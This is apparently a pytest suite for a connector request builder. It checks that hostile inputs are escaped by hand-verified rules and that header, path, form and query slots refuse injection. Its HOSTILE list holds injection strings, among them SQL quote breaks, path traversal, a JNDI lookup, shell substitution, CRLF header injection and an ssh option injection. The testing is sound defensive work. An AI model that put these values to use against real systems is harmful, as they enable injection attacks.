"""Thirty hostile strings in every slot of every description: the request equals one that is quoted by hand (W9)."""

from __future__ import annotations

import json
import re
from functools import cache
from typing import Any
from urllib.parse import parse_qsl

import pytest
from tests.unit.connectors.support import catalogue

from tocsin.connectors.addresses import Origin
from tocsin.connectors.errors import ConnectionFaultError, SlotError
from tocsin.connectors.plans import ActionPlan, compile_action, compile_request
from tocsin.connectors.request import build_request, header_value, new_scope
from tocsin.connectors.verbs import find_verb
from tocsin.expressions import EvaluationError
from tocsin.model.catalogue import Connector, Step
from tocsin.model.failures import FailureCode

HOSTILE = [
    "' or '1'='1", '" OR project = X ORDER BY "', "\\", "\\'", '\\"', "a'+status:'normal", "a'),(b:'c", "*", "ws-*",
    "../../admin", "..", ".", "a/b", "a%2Fb", "%2e%2e", "?x=1&y=2", "#frag", "a&b=c", "a=b;c=d", "a b+c",
    "{{ secret.key }}", "${jndi:ldap://192.0.2.1}", "$(id)`id`", "<a>&\"'</a>", "é\u00a0\u202e", "\U0001f6a8",
    "a\r\nX-Evil: 1", "a\nb", "a\0b", "-oProxyCommand=x",
]  # fmt: skip
UNRESERVED = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")
ORIGINS = {"main": Origin("https://a.example.com", "a.example.com"), "kibana": Origin("https://b.example.com", "b")}
NO_WILDCARD = {"fql", "spl"}
DOUBLED = {"odata"}
MARKS = {"fql": "'", "jql": '"', "spl": '"', "odata": "'", "kql": '"', "stix": "'", "ticket_sql": "'"}
SLOT = re.compile(r"\{\{ (?:quote_(\w+)\()?((?:input|option)\.\w+)\)? \}\}")
QUOTED = re.compile(r"quote_\w+\(")
STEPS = [
    pytest.param(connector, name, step, id=f"{connector.id}.{name}.{step.name}")
    for connector in catalogue().connectors.values()
    for name, action in connector.actions.items()
    for step in action.steps
    if "input." in step.model_dump_json()
]


def by_hand_percent(text: str) -> str:
    return "".join(chr(b) if chr(b) in UNRESERVED and b < 128 else f"%{b:02X}" for b in text.encode())


def by_hand_query(language: str | None, text: str) -> str:
    if language is None:
        return text
    if re.search(r"[\x00-\x1f]", text) or (language in NO_WILDCARD and "*" in text):
        raise SlotError("", "")
    if language == "ldap_filter":
        return "".join(f"\\{ord(c):02x}" if c in "*()\\" else c for c in text)
    if language == "shell":
        if text.startswith("-"):
            raise SlotError("", "")
        is_plain = re.fullmatch(r"[A-Za-z0-9@%+=:,./_-]+", text)
        return text if is_plain else "'" + text.replace("'", "'\"'\"'") + "'"
    mark = MARKS[language]
    if language in DOUBLED:
        return mark + "".join(c + c if c == mark else c for c in text) + mark
    return mark + "".join("\\" + c if c in {mark, "\\"} else c for c in text) + mark


def _options(connector: Connector) -> dict[str, Any]:
    return {
        name: schema["default"] if "default" in schema else schema["examples"][0]
        for name, schema in connector.options.items()
    }


class Filler:
    """Fills the slots of a text by hand; anything that is no plain name keeps the text out of the comparison."""

    def __init__(self, connector: Connector, value: str) -> None:
        self._defaults = _options(connector)
        self._value = value

    def fill(self, text: str) -> str | None:
        filled = SLOT.sub(lambda match: by_hand_query(match[1], self._of(match[2])), text)
        return None if "{{" in SLOT.sub("", text) else filled

    def _of(self, name: str) -> str:
        root, _, key = name.partition(".")
        return str(self._defaults[key]) if root == "option" else {"limit": "5"}.get(key, self._value)

    def tree(self, value: Any) -> Any:
        if isinstance(value, str):
            whole = re.fullmatch(r"\{\{ option\.(\w+) \}\}", value)
            if value in KEPT:
                return KEPT[value]
            return self._defaults[whole[1]] if whole else self.fill(value)
        if isinstance(value, dict):
            return {key: self.tree(part) for key, part in value.items()}
        return [self.tree(part) for part in value] if isinstance(value, list) else value


KEPT = {"{{ input.to }}": ["a", "b"], "{{ input.playbooks }}": ["a", "b"], "{{ input.limit }}": 5}
"""Inputs that are no texts, where they are a whole field."""
SAMPLES: dict[str, Any] = {"array": ["a", "b"], "object": {"a": "b"}}


@cache
def _plan(connector: str, name: str) -> ActionPlan:
    return compile_action(catalogue().connectors[connector], name, catalogue().vocabulary)


def _built(connector: Connector, name: str, step: Step, value: str):
    plan = _plan(connector.id, name)
    step_plan = next(one for one in plan.steps if one.name == step.name)
    scope = new_scope()
    inputs: dict[str, Any] = {
        key: SAMPLES.get(part.get("type"), value) for key, part in plan.inputs_schema["properties"].items()
    }
    scope.bind("input", {**inputs, "limit": 5})
    scope.bind("option", _options(connector))
    scope.bind("idempotency_key", "key")
    body = {"id": 1, "resources": ["id"], "transitions": [{"id": "31", "to": {"statusCategory": {"key": "done"}}}]}
    names = ("contacted", "ways", "launch")
    groups = [{"id": "id", "name": inputs.get("group")}]
    entry = {"body": {"entries": [{"dn": "cn=x", "attributes": {"useraccountcontrol": ["512"]}}]}}
    steps = {**{key: {"body": body} for key in names}, "groups": {"body": groups}, "group": entry, "before": entry}
    scope.bind("steps", steps)
    scope.bind("before", dict.fromkeys(("created", "pattern", "valid_from"), "x"))
    origins = {name: origin for name, origin in ORIGINS.items() if name in connector.addresses}
    return build_request(step_plan.request, scope, origins=origins, changes=True)


def _same(found: Any, expected: Any) -> bool:
    """Compare, leaving out what is computed and not quoted."""
    if expected is None:
        return True
    if isinstance(expected, dict):
        return expected.keys() == found.keys() and all(_same(found[key], part) for key, part in expected.items())
    if isinstance(expected, list):
        return len(expected) == len(found) and all(_same(a, b) for a, b in zip(found, expected, strict=True))
    return found == expected


def _segments(template: str) -> list[str]:
    return re.sub(r"\{\{.*?\}\}", lambda match: match[0].replace("/", "\0"), template.removeprefix("/")).split("/")


@pytest.mark.parametrize(("connector", "name", "step"), STEPS)
def test_every_slot_equals_one_quoted_by_hand(connector, name, step):
    for value in HOSTILE:
        _ensure_quoted(connector, name, step, value)


def _ensure_quoted(connector: Connector, name: str, step: Step, value: str) -> None:
    filler = Filler(connector, value)
    template = "" if find_verb(step.request) else step.request.partition(" ")[2]
    try:
        query = {key: filler.fill(text) for key, text in step.query.items()} if isinstance(step.query, dict) else None
        form = {key: filler.fill(text) for key, text in (step.form or {}).items()}
        body = filler.tree(step.json_body)
        segments = [filler.fill(part) for part in _segments(template)]
        is_possible = "input.path" in template or not any(part in {".", ".."} for part in segments)
        if QUOTED.search(SLOT.sub("", step.model_dump_json())):  # a quoted slot that is computed, too
            by_hand_query("kql", value)
    except SlotError:
        is_possible = False
    if not is_possible:
        with pytest.raises((SlotError, EvaluationError)):
            _built(connector, name, step, value)
        return
    request = _built(connector, name, step, value)
    if request.arguments is not None:
        assert _same(request.arguments, body)
        return
    if "input.path" not in template:  # a list, which has a test of its own
        found = request.path.removeprefix("/").split("/")
        assert _same(found, [part and by_hand_percent(part) for part in segments])
    pairs = dict(request.query)
    assert _same(pairs, query)
    raw = request.url.partition("?")[2]
    assert raw == "&".join(f"{by_hand_percent(key)}={by_hand_percent(text)}" for key, text in request.query)
    if form:
        assert _same(dict(parse_qsl((request.body or b"").decode(), keep_blank_values=True)), form)
    if step.json_body is not None:
        assert _same(json.loads(request.body or b""), body)
    fixed = {*connector.headers.values(), *step.headers.values()}
    assert all(value not in text for _, text in request.headers if text not in fixed)


def _of_parts(value: Any, request: str = "POST /x", **parts: Any):
    scope = new_scope()
    scope.bind("input", {"a": value})
    return build_request(compile_request("toy", "main", request, parts), scope, origins=ORIGINS, changes=False)


@pytest.mark.parametrize("value", ["a\r\nX-Evil: 1", "a\nb", "a\0b", "é", "\x7f"])
def test_a_header_takes_no_line_end_no_control_character_and_only_ascii(value):
    with pytest.raises(SlotError):
        _of_parts(value, headers={"X-Own": "{{ input.a }}"})


def test_a_header_value_is_given_back():
    assert header_value("X", "a b:c") == "a b:c"


def test_a_form_is_written_by_the_rules_of_forms():
    request = _of_parts("a b&c=d+é", form={"x": "{{ input.a }}", "y": "1"})
    assert request.body == b"x=a+b%26c%3Dd%2B%C3%A9&y=1"
    assert request.headers == (("Content-Type", "application/x-www-form-urlencoded"),)


def test_a_json_slot_that_is_the_whole_field_keeps_its_type():
    assert _of_parts([1, True, None], json={"x": "{{ input.a }}"}).body == b'{"x":[1,true,null]}'


def test_a_text_is_sent_as_it_is():
    assert _of_parts("é", text="x {{ input.a }}").body == "x é".encode()


@pytest.mark.parametrize(("value", "expected"), [(5, "5"), (5.0, "5"), (2.5, "2.5"), (True, "true"), ("x", "x")])
def test_a_parameter_is_text(value, expected):
    assert _of_parts(value, query={"q": "{{ input.a }}"}).query == (("q", expected),)


def test_a_parameter_that_is_null_is_left_out():
    assert _of_parts(None, query={"q": "{{ input.a }}", "r": "1"}).query == (("r", "1"),)


@pytest.mark.parametrize("value", [[1], {"a": 1}])
def test_a_list_or_map_cannot_stand_in_a_parameter(value):
    with pytest.raises(SlotError):
        _of_parts(value, query={"q": "{{ input.a }}"})


@pytest.mark.parametrize("value", ["", ".", "..", None, {"a": 1}, [], ["a", ".."], ["a", ""], ["a", None]])
def test_a_path_does_not_climb_and_has_no_holes(value):
    with pytest.raises(SlotError):
        _of_parts(value, request="GET /x/{{ input.a }}/y")


def test_a_list_that_is_a_whole_segment_is_a_segment_an_item():
    assert _of_parts(["a", "b/c", "..d"], request="GET /x/{{ input.a }}/y").path == "/x/a/b%2Fc/..d/y"


def test_a_list_inside_of_a_segment_is_refused():
    with pytest.raises((SlotError, EvaluationError)):
        _of_parts(["a"], request="GET /x/b{{ input.a }}")


def test_a_query_that_is_one_slot_has_a_parameter_an_entry():
    request = _of_parts({"a b": "c&d", "n": 5, "gone": None}, query="{{ input.a }}")
    assert request.url.endswith("?a%20b=c%26d&n=5")


@pytest.mark.parametrize("value", ["a=b", ["a"], {"a": ["b"]}, {"a": {}}])
def test_a_query_that_is_one_slot_takes_only_a_map_of_texts(value):
    with pytest.raises(SlotError):
        _of_parts(value, query="{{ input.a }}")


def test_the_same_text_has_the_same_uuid_and_another_has_another():
    found = [json.loads(_of_parts(text, json="{{ uuid_of(input.a) }}").body or b"") for text in ("a", "a", "b")]
    assert found[0] == found[1] != found[2]
    assert re.fullmatch(r"[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}", found[0])


@pytest.mark.parametrize(("value", "expected"), [(["a", "b"], "a,b"), ([], ""), (["a"], "a")])
def test_texts_are_joined(value, expected):
    assert _of_parts(value, query={"q": "{{ join(input.a, ',') }}"}).query == (("q", expected),)


@pytest.mark.parametrize("value", ["a", [1], None])
def test_only_texts_are_joined(value):
    with pytest.raises(EvaluationError):
        _of_parts(value, query={"q": "{{ join(input.a, ',') }}"})


def test_two_slots_cannot_climb_together():
    with pytest.raises(SlotError):
        _of_parts(".", request="GET /x/{{ input.a }}{{ input.a }}")


def test_a_slash_in_an_expression_does_not_cut_the_path():
    assert _of_parts(6, request="GET /x/{{ input.a / 2 }}/y").path == "/x/3/y"


def test_half_a_character_is_refused():
    with pytest.raises((SlotError, EvaluationError)):
        _of_parts("\ud800", query={"q": "{{ input.a }}"})


def test_a_quote_that_is_refused_is_bad_input():
    with pytest.raises(EvaluationError) as caught:
        _of_parts("ws-*", query={"filter": "name:{{ quote_fql(input.a) }}"})
    assert caught.value.kind is FailureCode.BAD_INPUT


def test_a_server_that_the_connection_lacks_is_named():
    with pytest.raises(ConnectionFaultError, match=r"addresses\.other"):
        build_request(compile_request("toy", "other", "GET /", {}), new_scope(), origins=ORIGINS, changes=False)


def test_what_may_be_secret_does_not_show():
    request = _of_parts("geheim", headers={"X": "{{ input.a }}"}, query={"q": "{{ input.a }}"}, text="{{ input.a }}")
    assert "geheim" not in repr(request)
